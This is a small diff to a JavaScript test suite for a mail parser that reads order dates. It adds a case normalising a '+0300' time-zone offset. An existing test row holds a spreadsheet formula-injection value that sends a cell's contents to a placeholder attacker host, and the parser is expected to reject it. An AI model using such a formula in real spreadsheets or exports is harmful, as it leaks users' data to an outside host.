@@ -316,6 +316,7 @@ describe('what a mail tells machines', () => {
     ['2025-03-04T23:50+02:00', '2025-03-04T23:50+02:00'],
     ['=HYPERLINK("https://evil.example/?x="&F2,"open")', undefined],
     [`2025-03-04 ${'x'.repeat(40)}`, undefined],
+    ['2024-05-06T10:00:00+0300', '2024-05-06T10:00:00+03:00'],
   ])('says when it was placed only by a date: %s', (orderDate, placedAt) => {
     const [order] = readMail(htmlMail(markedUp('Order', orderDate)), []).orders;
     expect(order?.placedAt).toBe(placedAt);
